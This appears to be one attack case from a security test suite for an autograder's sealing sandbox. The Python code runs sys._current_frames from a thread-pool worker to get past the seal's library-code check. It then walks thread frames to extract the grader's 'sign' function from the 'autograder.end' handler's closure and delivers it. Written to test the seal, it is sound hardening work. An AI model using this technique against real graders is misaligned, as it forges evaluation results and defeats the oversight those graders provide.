# @include _visible_only.py
# @include _deliver.py
# Attack: ask for sys._current_frames() from a thread pool's worker thread. The
# seal trusts a request whose stack holds library code only, and a pool thread
# runs library code only, so the seal thread's frame comes back; its locals lead
# to the signing function.
import sys
from concurrent.futures import ThreadPoolExecutor


def _steal_sign():
    with ThreadPoolExecutor(1) as pool:
        frames = pool.submit(sys._current_frames).result()
    for frame in frames.values():
        while frame is not None:
            handlers = frame.f_locals.get("handlers")
            if isinstance(handlers, dict) and "autograder.end" in handlers:
                for cell in handlers["autograder.end"].__closure__ or ():
                    value = cell.cell_contents
                    if getattr(value, "__name__", "") == "sign":
                        return value
            frame = frame.f_back
    return None


try:
    _sign = _steal_sign()
except Exception as exc:  # noqa: BLE001
    print("attack failed:", type(exc).__name__)
    _sign = None
print("signing function found:", _sign is not None)
if _sign is not None:
    deliver_sign(_sign)
